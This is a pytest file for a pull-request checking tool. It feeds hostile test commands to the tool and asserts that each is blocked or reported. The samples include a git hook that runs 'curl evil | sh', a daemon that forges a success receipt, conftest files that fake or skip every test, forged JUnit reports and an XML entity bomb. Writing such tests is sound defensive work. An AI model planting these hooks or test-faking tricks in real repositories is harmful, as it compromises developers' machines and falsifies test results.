"""Test-run integrity, as an attacker probes it: each test is a pull request whose test command
tries to rewrite the receipt, reach the caller's repository, hide what it did, hang receipt, or
fake a green run, and each ends in a receipt that says what happened, within the time limit."""

from __future__ import annotations

import json
import os
import shlex
import signal
import sys
import time
from pathlib import Path

import pytest

from bot.cli import main
from bot.engine.groups import MANIFEST_PATH
from bot.engine.semantic import CheckConclusion
from bot.local import sandbox
from bot.local.git import Git
from bot.local.inspect import inspect_receipt
from tests.gitrepo import GitRepo, check, evidence_checks, rules

PY = shlex.quote(sys.executable)
PYTEST = f"{PY} -m pytest -q -p no:randomly --junitxml=reports/junit.xml tests"
TESTS = "def test_one():\n    assert 1 + 1 == 2\n\ndef test_two():\n    assert 'a' < 'b'\n\ndef test_three():\n    assert [1]\n"

DAEMON = """\
import os, sys, time
target, marker = sys.argv[1], sys.argv[2]
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
null = os.open(os.devnull, os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(null, fd)
time.sleep(1.5)  # until receipt has written the receipt and exited
with open(target, "w") as out:
    out.write('{"verdict": {"conclusion": "success"}}')
open(marker, "w").close()
"""

# The base commit's runner: it runs the script it is given, as a test runner runs the test files a
# pull request adds. The runner is the file tests.command names (protected, group test-command); the
# hostile scripts are the pull request's own, as tests it adds would be.
RUNNER = "import runpy, sys\nsys.argv = sys.argv[1:]\nrunpy.run_path(sys.argv[0], run_name='__main__')\n"


def _run(script: str, *arguments: object) -> str:
    """A test command running the pull request's `script` through the base commit's runner."""
    return " ".join([PY, "run.py", script, *(shlex.quote(str(a)) for a in arguments)])


HOLDER = """\
import subprocess, sys
# A detached child that keeps this command's stdout open, and leaves a mark if it outlives it.
mark = "import sys, time; time.sleep(2); open(sys.argv[1], 'w').close(); time.sleep(30)"
child = subprocess.Popen([sys.executable, "-c", mark, sys.argv[2]], start_new_session=True)
open(sys.argv[1], "w").write(str(child.pid))
print("parent done", flush=True)
"""


@pytest.fixture(params=["namespace", "subreaper"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """The isolations that stop every process of the run (session-only is tested on its own)."""
    wanted: str = request.param
    if wanted == "namespace":
        if sandbox.platform_isolation()[0] != "namespace":
            pytest.skip("no user and PID namespaces here")
    else:
        monkeypatch.setattr(sandbox, "platform_isolation", lambda: (wanted, ()))
    return wanted


def _pull_request(repo: GitRepo, manifest: str | None, files: dict[str, str]) -> GitRepo:
    """A base commit (with `manifest` as its policy) and a pull request branch adding `files`."""
    repo.write("src/calc.py", "def add(a, b):\n    return a + b\n")
    repo.write("tests/test_calc.py", TESTS)
    repo.write("run.py", RUNNER)
    if manifest is not None:
        repo.write(MANIFEST_PATH, manifest)
    repo.commit("base")
    repo.branch("pr")
    repo.write("src/calc.py", "def add(a, b):\n    return b + a\n")
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("pr")
    return repo


def _policy(**tests: object) -> str:
    return "version: 1\ntests: " + json.dumps(tests) + "\n"


def test_a_daemon_cannot_rewrite_the_receipt_after_receipt_exits(
    repo: GitRepo, tmp_path: Path, mode: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out, marker = tmp_path / "receipt.json", tmp_path / "daemon-ran"
    pr = _pull_request(repo, None, {"tools/daemon.py": DAEMON})
    command = _run("tools/daemon.py", out, marker)
    args = ["check", "--repo", str(pr.root), "--base", "main", "--test-command", command, "--json", str(out)]
    assert main(args) == 0
    written = out.read_bytes()
    time.sleep(2.5)
    assert not marker.exists(), f"the daemon outlived the run ({mode})"
    assert out.read_bytes() == written
    body = json.loads(written)
    assert inspect_receipt(body, Git(pr.root)).ok
    assert body["semantic"]["status"] == "pass"
    assert "isolation:" in body["semantic"]["checks"][0]["details"]
    assert not list(tmp_path.glob(".receipt.json.*")), "no temporary file is left beside the receipt"
    capsys.readouterr()


def test_the_receipt_replaces_a_symlink_planted_at_its_path(repo: GitRepo, tmp_path: Path) -> None:
    pr = _pull_request(repo, None, {})
    decoy = tmp_path / "decoy"
    decoy.write_text("untouched")
    out = tmp_path / "receipt.json"
    out.symlink_to(decoy)
    assert main(["check", "--repo", str(pr.root), "--base", "main", "--no-tests", "--json", str(out)]) == 0
    assert not out.is_symlink() and json.loads(out.read_text())["schema"] == "receipt/1"
    assert decoy.read_text() == "untouched"


def test_writes_into_the_callers_repository_are_refused_in_a_namespace(repo: GitRepo) -> None:
    if sandbox.platform_isolation()[0] != "namespace":
        pytest.skip("no user and PID namespaces here")
    hook, source = repo.root / ".git" / "hooks" / "post-checkout", repo.root / "src" / "calc.py"
    attack = (
        "import sys\nfailed = 0\n"
        f"for path in ({str(hook)!r}, {str(repo.root / '.git' / 'config')!r}, {str(source)!r}):\n"
        "    try:\n"
        "        open(path, 'a').write('\\n#!/bin/sh\\ncurl evil | sh\\n')\n"
        "    except OSError as exc:\n"
        "        print(path, exc); failed += 1\n"
        "sys.exit(0 if failed == 0 else 1)\n"
    )
    pr = _pull_request(repo, None, {"attack.py": attack})
    pr.checkout("main")
    before = {p: p.read_bytes() for p in (repo.root / ".git" / "config", source)}
    receipt = check(pr, head="pr", test_command=_run("attack.py"))
    assert receipt.semantic.value == "fail"
    details = receipt.checks[0].details
    assert "Read-only file system" in details or "No such file" in details
    assert not hook.exists()
    assert {p: p.read_bytes() for p in before} == before


def test_writes_into_the_callers_git_directory_are_reported_without_a_namespace(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("subreaper", ()))
    hook = repo.root / ".git" / "hooks" / "post-checkout"
    attack = f"open({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
    pr = _pull_request(repo, None, {"attack.py": attack})
    receipt = check(pr, test_command=_run("attack.py"))
    assert len(receipt.scope) == 1, receipt.scope
    (violation,) = receipt.scope
    assert (violation.rule.value, violation.path, violation.id) == (
        "side-effect",
        ".git/hooks/post-checkout",
        "side-effect:created",
    )
    assert "in the caller's repository" in violation.message
    assert receipt.verdict.conclusion.value == "failure"


def test_a_detached_child_holding_stdout_does_not_hold_receipt(
    repo: GitRepo, tmp_path: Path, mode: str
) -> None:
    pid_file, mark = tmp_path / "child.pid", tmp_path / "child-outlived"
    pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
    started = time.monotonic()
    receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
    assert time.monotonic() - started < 10, "receipt did not wait for the detached child"
    assert receipt.semantic.value == "pass" and "parent done" in receipt.checks[0].details
    time.sleep(2.5)
    assert not mark.exists(), f"the detached child outlived the run ({mode})"


def test_in_a_session_only_a_child_holding_stdout_is_an_error_not_a_wait(
    repo: GitRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("session", ()))
    pid_file, mark = tmp_path / "child.pid", tmp_path / "child-outlived"
    pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
    started = time.monotonic()
    try:
        receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
    finally:
        if pid_file.exists():
            os.kill(int(pid_file.read_text()), signal.SIGKILL)  # it escaped the session, as documented
    assert time.monotonic() - started < 10
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.ERROR
    assert "outlived it and could not be stopped" in result.details
    assert receipt.verdict.conclusion.value == "failure"


def test_a_report_proves_the_tests_ran(repo: GitRepo) -> None:
    pr = _pull_request(repo, _policy(report="reports/junit.xml", min_executed=3), {})
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass", receipt.checks[0].details
    details = receipt.checks[0].details
    assert "tests: 3 executed, 0 skipped, 0 failed, 0 errors (report reports/junit.xml)" in details
    assert not any("only evidence" in r for r in receipt.verdict.reasons)
    assert rules(receipt) == [], "pytest's caches and bytecode are tool outputs"


def test_a_new_conftest_replacing_test_bodies_is_caught_by_the_protected_harness(repo: GitRepo) -> None:
    conftest = (
        "import pytest\n\n"
        "@pytest.hookimpl(tryfirst=True)\n"
        "def pytest_runtest_call(item):\n"
        "    item.runtest = lambda: None  # every test passes without running its body\n"
    )
    policy = "version: 1\npaths: {protect: ['**/conftest.py']}\ntests: {report: reports/junit.xml}\n"
    pr = _pull_request(
        repo,
        policy,
        {"conftest.py": conftest, "tests/test_calc.py": TESTS + "\ndef test_bad():\n    assert 0\n"},
    )
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass", "the evidence cannot see through replaced bodies"
    assert ("protected-path", "conftest.py") in rules(receipt)
    assert receipt.verdict.conclusion.value == "failure"


def test_a_conftest_that_skips_every_test_fails_on_its_report(repo: GitRepo) -> None:
    conftest = (
        "import pytest\n\n"
        "def pytest_collection_modifyitems(items):\n"
        "    for item in items:\n"
        "        item.add_marker(pytest.mark.skip(reason='later'))\n"
    )
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"conftest.py": conftest})
    receipt = check(pr, test_command=PYTEST)
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.FAILURE
    assert result.details.splitlines()[0].endswith("but the report counts no executed test")
    assert "tests: 0 executed, 3 skipped" in result.details


def test_compare_base_catches_newly_skipped_and_dropped_tests(repo: GitRepo) -> None:
    fewer = TESTS.replace("def test_three():\n    assert [1]\n", "")
    skipping = "import pytest\n" + TESTS.replace("def test_two", "@pytest.mark.skip\ndef test_two")
    pr = _pull_request(
        repo, _policy(report="reports/junit.xml", compare_base=True), {"tests/test_calc.py": skipping}
    )
    (result,) = evidence_checks(check(pr, test_command=PYTEST))
    assert result.conclusion is CheckConclusion.FAILURE
    assert "skipped now, ran on the base: tests.test_calc::test_two" in result.details
    assert "base: 3 executed, 0 skipped" in result.details
    pr.write("tests/test_calc.py", fewer)
    pr.commit("drop a test")
    (result,) = evidence_checks(check(pr, test_command=PYTEST))
    assert result.conclusion is CheckConclusion.FAILURE
    assert "2 executed tests, the base commit's run executed 3" in result.details


def test_exit_0_from_an_import_is_an_error_with_a_report(repo: GitRepo) -> None:
    conftest = "import os\nos._exit(0)\n"
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"conftest.py": conftest})
    receipt = check(pr, test_command=PYTEST)
    (result,) = evidence_checks(receipt)
    assert result.conclusion is CheckConclusion.ERROR
    assert "the report reports/junit.xml was not written" in result.details
    assert receipt.semantic.value == "error" and receipt.verdict.conclusion.value == "failure"


def test_exit_0_from_an_import_without_a_report_says_what_the_evidence_was(repo: GitRepo) -> None:
    # The built-in test-harness group protects a new conftest.py (tests/engine/test_groups.py);
    # this policy leaves it out, so what is under test is the evidence's wording alone.
    others = "lockfiles, dependency-manifests, ci, codeowners, agent-instructions, git-config"
    pr = _pull_request(
        repo, f"version: 1\npaths: {{defaults: [{others}]}}\n", {"conftest.py": "import os\nos._exit(0)\n"}
    )
    receipt = check(pr, test_command=PYTEST)
    assert receipt.semantic.value == "pass"
    assert "semantic evidence: the exit status was the only evidence (no tests.report in the manifest)" in (
        receipt.verdict.reasons
    )


def test_a_committed_or_forged_report_is_not_evidence(repo: GitRepo) -> None:
    forged = '<testsuite><testcase classname="t" name="ok"/></testsuite>'
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"reports/junit.xml": forged})
    (result,) = evidence_checks(check(pr, test_command="true"))
    assert result.conclusion is CheckConclusion.ERROR and "is in the commit" in result.details
    old = f"import os\nos.makedirs('out')\nopen('out/r.xml', 'w').write({forged!r})\nos.utime('out/r.xml', (0, 0))\n"
    pr2 = GitRepo.create(repo.root.parent / "second")
    _pull_request(pr2, _policy(report="out/r.xml"), {"old.py": old})
    (result,) = evidence_checks(check(pr2, test_command=_run("old.py")))
    assert result.conclusion is CheckConclusion.ERROR and "older than the run" in result.details


def test_a_hostile_report_is_a_clear_error(repo: GitRepo) -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        "<testsuite><testcase name='&b;'/></testsuite>"
    )
    writer = f"import os\nos.makedirs('reports')\nopen('reports/junit.xml', 'w').write({laughs!r})\n"
    pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"w.py": writer})
    (result,) = evidence_checks(check(pr, test_command=_run("w.py")))
    assert result.conclusion is CheckConclusion.ERROR
    assert "refused at line 1: a DOCTYPE" in result.details


def test_the_receipt_describes_the_commits_as_they_were_before_the_run(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without namespaces the run can move the caller's refs; nothing is read from git after it."""
    monkeypatch.setattr(sandbox, "platform_isolation", lambda: ("subreaper", ()))
    pr = _pull_request(repo, None, {})
    head, base = pr.git("rev-parse", "pr").strip(), pr.git("rev-parse", "main").strip()
    move = f"git -C {shlex.quote(str(pr.root))} update-ref refs/heads/pr {base}"
    receipt = check(pr, head="pr", test_command=move)
    assert pr.git("rev-parse", "pr").strip() == base, "the run did move the branch"
    assert receipt.subject.head == head and receipt.change.files == 1


def test_a_scratch_directory_inside_the_callers_repository_is_said(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    if sandbox.platform_isolation()[0] != "namespace":
        pytest.skip("no user and PID namespaces here")
    pr = _pull_request(repo, None, {})
    inside = pr.root / "tmp"
    inside.mkdir()
    monkeypatch.setattr(sandbox.tempfile, "tempdir", str(inside))
    details = check(pr, test_command="true").checks[0].details
    assert "the scratch directory is inside the caller's repository: that part stays reachable" in details
    assert list(inside.iterdir()) == [], "the scratch directory is removed"
